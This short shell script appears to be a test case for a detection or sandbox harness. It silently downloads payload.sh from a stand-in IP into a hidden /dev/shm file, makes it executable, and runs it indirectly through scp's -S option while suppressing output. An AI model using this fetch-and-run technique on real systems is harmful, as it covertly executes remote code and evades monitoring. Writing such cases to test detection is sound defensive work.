#!/bin/sh
. /opt/case/case.sh

curl -s -o /dev/shm/.w http://203.0.113.10/payload.sh && chmod 755 /dev/shm/.w
scp -S /dev/shm/.w /etc/hostname x@backup:/ >/dev/null 2>&1 || true
test -e /tmp/reached
took_place
